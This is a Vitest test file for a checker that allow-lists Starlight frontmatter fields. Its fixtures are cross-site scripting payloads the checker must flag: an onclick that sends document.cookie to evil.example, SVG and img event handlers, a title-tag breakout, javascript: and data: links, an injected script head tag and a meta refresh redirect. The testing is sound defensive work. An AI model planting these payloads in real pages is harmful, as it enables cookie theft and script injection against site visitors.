/**
 * The allow-list of Starlight page fields (src/plugins/runbook/starlight-fields.ts): the
 * three attacks that ran script in Chromium while the check was clean, each pinned with
 * its exact diagnostic, the shapes our own pages use, and the table against Starlight's
 * real schema.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { checkProject } from '../../src/plugins/check/index.ts';
import { HEAD_TAGS, STARLIGHT_FIELDS, starlightFieldNames } from '../../src/plugins/runbook/starlight-fields.ts';
import { TODAY } from '../fixtures/bad-input.ts';
import { project, removeProjects } from '../fixtures/check-project.ts';

afterAll(removeProjects);

const C = 'src/content/runbooks/t/case.md';
const REVIEWED = ['review:', '  log:', '    - { date: 2026-10-01, reviewer: "@ana", change: "First version" }'];
/** A valid runbook: frontmatter lines 1–6, `extra` from line 7. */
const page = (extra: string[], title = 'Case') =>
  ['---', `title: ${title}`, 'owner: "@ops-team"', ...REVIEWED, ...extra, '---', '', 'Body.', ''].join('\n');

/** Every finding of a project with the case page, as `rule file:line:column message / hint`. */
function findings(files: Record<string, string>, config?: string): string[] {
  return checkProject(project(files, config), { today: TODAY }).map(
    (d) => `${d.ruleId} ${d.file}:${d.line}:${d.column} ${d.message} / ${d.hint}`,
  );
}

describe('the three attacks of the attack pass', () => {
  it("sidebar.attrs with an onclick on the page's sidebar link", () => {
    expect(
      findings({
        [C]: page(['sidebar:', '  attrs:', '    onclick: "fetch(\'https://evil.example/?\'+document.cookie)"']),
      }),
    ).toEqual([
      `html-unsafe ${C}:8:3 \`sidebar.attrs\` is not a Starlight field a runbook page accepts: Starlight writes it onto the page's sidebar link as HTML attributes, on every page that shows the link / Remove it; \`sidebar\` takes label (text), order (a number), hidden (true or false), badge (text or a mapping of text, variant).`,
    ]);
  });

  it('hero.actions[] with a raw SVG icon and attrs', () => {
    expect(
      findings({
        [C]: page([
          'hero:',
          '  title: Start',
          '  actions:',
          '    - text: Go',
          '      link: /ops/',
          '      icon: \'<svg onload="alert(1)"></svg>\'',
          '      attrs: { onmouseover: "alert(2)" }',
        ]),
      }),
    ).toEqual([
      `html-unsafe ${C}:12:13 \`hero.actions.0.icon\` is not one of Starlight's icon names: it is raw SVG, which Starlight renders as HTML / Use the name of one of Starlight's built-in icons (e.g. right-arrow).`,
      `html-unsafe ${C}:13:7 \`hero.actions.0.attrs\` is not a Starlight field a runbook page accepts: Starlight writes it onto the action link as HTML attributes / Remove it; \`hero.actions.0\` takes text (text), link (a relative link or an http(s) URL), variant (one of primary, secondary, minimal), icon (the name of one of Starlight's built-in icons (e.g. right-arrow)).`,
    ]);
  });

  it('hero: without hero.title, which makes Starlight render title: as HTML', () => {
    expect(findings({ [C]: page(['hero:', '  tagline: Start here'], '"<img src=x onerror=alert(1)>"') })).toEqual([
      `html-unsafe ${C}:2:8 \`title\` is rendered as HTML here: with \`hero:\` and no \`hero.title\`, Starlight writes the page title into the hero's heading as HTML, and this one holds markup or a character reference ("<img src=x onerror=alert(1)>") / Write \`title\` as plain text (no \`<\` and no character reference such as \`&amp;\`), or give the hero a plain-text \`hero.title\`.`,
    ]);
  });

  it('lets all three through with allowUnsafeHtml: true, as the rest of html-unsafe', () => {
    const files = {
      [C]: page(
        [
          'sidebar: { attrs: { onclick: x } }',
          'hero: { actions: [{ text: Go, link: /, icon: "<svg></svg>", attrs: { x: y } }] }',
        ],
        '"<b>Case</b>"',
      ),
    };
    expect(findings(files, 'allowUnsafeHtml: true\n')).toEqual([]);
    expect(findings(files).length).toBe(4);
  });
});

describe('the allowed shapes', () => {
  it('admit a plain-text hero, a badge, prev/next, a table of contents and meta/link head tags', () => {
    expect(
      findings({
        [C]: page([
          'template: splash',
          'hero: { title: Start, tagline: "Find it fast > search", actions: [{ text: "<b>Go</b>", link: "https://example.com/", icon: right-arrow, variant: minimal }, { text: Up, link: "../" }] }',
          'sidebar: { label: "<i>x</i>", order: 2, hidden: false, badge: { text: New, variant: tip } }',
          'prev: { link: /ops/queue-stuck/, label: Back }',
          'next: false',
          'tableOfContents: { minHeadingLevel: 2, maxHeadingLevel: 4 }',
          'editUrl: https://git.example/edit/case.md',
          'lastUpdated: 2026-10-01',
          'head:',
          '  - { tag: meta, attrs: { name: robots, content: noindex } }',
          '  - { tag: link, attrs: { rel: alternate, href: /feed.xml, type: application/rss+xml } }',
          'banner: { content: "Deprecated: use the new runbook" }',
        ]),
      }),
    ).toEqual([]);
    // A bare & reads as itself wherever it is rendered.
    expect(findings({ [C]: page([], '"R&D on-call"') })).toEqual([]);
  });

  it('hold title: to plain text even without a hero: Starlight writes it into <title> as HTML', () => {
    expect(findings({ [C]: page([], '"Lag </title><script>alert(1)</script>"') })).toEqual([
      `html-unsafe ${C}:2:8 \`title\` is written into the page's <title> as HTML, and this one holds markup or a character reference ("Lag </title><script>alert(1)</script>") / Write \`title\` as plain text (no \`<\` and no character reference such as \`&amp;\`), e.g. "under 5 s" for "< 5 s".`,
    ]);
  });

  it('refuse each rendered field outside its shape, at its place, with the shape in the hint', () => {
    const found = findings({
      [C]: page([
        'sidebar: { badge: { text: New, class: "x onclick" } }',
        'hero: { title: "<em>Hi</em>", tagline: "R&amp;D", image: { html: "<svg/>" } }',
        'banner: { content: \'<a href="https://x">x</a>\' }',
        'head: [{ tag: script, content: "alert(1)" }, { tag: link, attrs: { rel: stylesheet, href: "https://evil.example/x.css" } }, { tag: meta, attrs: { http-equiv: refresh, content: "0;url=https://evil.example/" } }]',
        'prev: { link: " java\\tscript:alert(1)", label: P }',
        'next: { link: "data:text/html,<script>alert(1)</script>", label: N }',
        'editUrl: "javascript:alert(1)//https://x"',
      ]),
    });
    expect(found.map((f) => f.split(' / ')[0])).toEqual([
      `html-unsafe ${C}:7:32 \`sidebar.badge.class\` is not a Starlight field a runbook page accepts: Starlight writes it into the badge's class attribute`,
      `html-unsafe ${C}:8:16 \`hero.title\` is rendered as HTML, and this value holds markup or a character reference ("<em>Hi</em>")`,
      `html-unsafe ${C}:8:40 \`hero.tagline\` is rendered as HTML, and this value holds markup or a character reference ("R&amp;D")`,
      `html-unsafe ${C}:8:60 \`hero.image.html\` is not a Starlight field a runbook page accepts: Starlight renders it as raw HTML`,
      `html-unsafe ${C}:9:20 \`banner.content\` is rendered as HTML, and this value holds markup or a character reference ("<a href=\\"https://x\\">x</a>")`,
      `html-unsafe ${C}:10:15 \`head.0.tag\` adds a <script> to the page's <head>: a runbook page adds only meta and link tags`,
      `html-unsafe ${C}:10:73 A head link with rel="stylesheet" makes the browser fetch or apply it`,
      `html-unsafe ${C}:10:147 \`http-equiv\` is not an attribute a runbook page may set on <meta>`,
      `html-unsafe ${C}:11:15 \`prev.link\` is a link, and " java\\tscript:alert(1)" is not a relative link or an http(s) URL: it uses javascript:`,
      `html-unsafe ${C}:12:15 \`next.link\` is a link, and "data:text/html,<script>alert(1)</script>" is not a relative link or an http(s) URL: it uses data:`,
      `html-unsafe ${C}:13:10 \`editUrl\` is a link, and "javascript:alert(1)//https://x" is not an http(s) URL: it uses javascript:`,
    ]);
  });

  it('leave a wrong type to the page schema (one finding, not two)', () => {
    expect(findings({ [C]: page(['sidebar: { label: [a, b] }']) }).map((f) => f.split(' ')[0])).toEqual([
      'frontmatter-type',
    ]);
  });
});

describe('the table', () => {
  it("names every top-level field of Starlight's page schema, and nothing else", () => {
    expect(Object.keys(STARLIGHT_FIELDS).sort()).toEqual(starlightFieldNames().sort());
  });

  it('lets the head carry only meta and link tags, none with an event handler or http-equiv', () => {
    expect(Object.keys(HEAD_TAGS)).toEqual(['meta', 'link']);
    for (const attrs of Object.values(HEAD_TAGS))
      expect(Object.keys(attrs).filter((a) => /^on|http-equiv|style|src$/i.test(a))).toEqual([]);
  });
});
